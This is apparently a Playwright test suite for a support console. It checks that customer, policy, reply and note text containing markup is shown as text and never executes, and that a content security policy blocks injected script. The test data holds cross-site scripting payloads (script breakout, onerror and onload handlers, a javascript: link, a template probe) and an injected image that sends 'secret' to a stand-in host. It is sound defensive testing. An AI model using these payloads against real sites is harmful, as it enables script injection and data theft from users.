"""What customers, policies and other agents write is shown, and never does anything."""

from typing import Any

from playwright.sync_api import Page, expect

from tests.browser.crm import Crm, read_case
from tests.browser.desk import expect_checked, expect_saved, get_reply, open_draft, open_tab, read_reply
from tests.browser.watch import Watch

RUN = "window.ran = true"
ATTACK = (
    f'</script><script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"></svg>'
    f'<a href="javascript:{RUN}">click</a><iframe srcdoc="<script>parent.ran = true</script>"></iframe>{{{{7*7}}}}'
)
_ACTIVE = "iframe, img:not(.cm-widgetBuffer), main script, [onerror], [onload], [href^='javascript']"
PIECE = f'<img src=x onerror="{RUN}">'


def build_attack() -> Any:
    """A case with markup in whatever somebody outside may have written."""
    case = read_case()
    case["conversation"]["messages"][-1]["body"] += f"\n{ATTACK}"
    case["conversation"]["subject"] = f"Blender {PIECE}"
    case["policy"]["text"] += f"\n## Markup {PIECE}\n- Vouchers {ATTACK} are given for every order.\n"
    case["requester"]["name"] = case["conversation"]["messages"][-1]["author"]["name"] = f"Dana {PIECE}"
    case["facts"]["shelf"] = PIECE
    case["metadata"] = {"source": PIECE}
    return case


def expect_harmless(page: Page) -> None:
    assert page.evaluate("window.ran") is None
    assert page.locator(_ACTIVE).count() == 0


def test_markup_of_a_customer_and_a_policy_is_text_in_every_view(page: Page, crm: Crm) -> None:
    draft = crm.draft_case(build_attack())
    page.goto("/console")
    page.get_by_role("searchbox").fill(draft["conversation_id"])
    row = page.get_by_role("list", name="Drafts").get_by_role("link")
    expect(row).to_contain_text(f"Blender {PIECE}")
    expect_harmless(page)
    row.click()
    thread = page.get_by_role("region", name="Conversation")
    expect(thread).to_contain_text(PIECE)
    thread.get_by_text("Policy (").click()
    expect(thread.get_by_text("are given for every order")).to_contain_text("<svg onload=")
    for name in ("Checks", "Steps", "Escalate", "History", "Case"):
        open_tab(page, name)
        expect(page.get_by_role("tabpanel").locator("li, dd").first).to_be_visible()
        expect_harmless(page)
    expect(page.get_by_role("tabpanel")).to_contain_text(PIECE)


def test_markup_in_a_reply_a_note_and_a_name_is_text(page: Page, crm: Crm) -> None:
    draft = crm.draft()
    open_draft(page, draft, name=f"Sam {PIECE}")
    get_reply(page).press("Control+End")
    page.keyboard.insert_text(f"\n{ATTACK}")
    expect_saved(page, 2)
    expect_checked(page)
    assert read_reply(page) == draft["body"] + f"\n{ATTACK}"
    page.keyboard.press("F8")
    expect(page.get_by_role("dialog", name="Finding")).to_be_visible()
    open_tab(page, "Escalate")
    page.get_by_role("textbox", name="Note (optional)").fill(ATTACK)
    page.get_by_role("button", name="Hand over").click()
    open_tab(page, "History")
    expect(page.get_by_role("list", name="Trail")).to_contain_text(ATTACK)
    expect(page.get_by_role("list", name="Revisions")).to_contain_text(f"Sam {PIECE}")
    expect_harmless(page)


def test_even_markup_that_got_into_the_page_would_run_nothing(page: Page, crm: Crm, watch: Watch) -> None:
    open_draft(page, crm.draft())
    page.evaluate(
        """words => {
          const script = document.createElement("script");
          script.textContent = words;
          document.body.append(script);
          const image = document.createElement("img");
          image.src = "https://collect.invalid/?text=secret";
          document.body.append(image);
        }""",
        RUN,
    )
    page.wait_for_timeout(100)
    assert page.evaluate("window.ran") is None
    assert any("inline script" in words for words in watch.seen)
    assert any("collect.invalid" in words for words in watch.seen)
    watch.allow("inline script|collect.invalid")
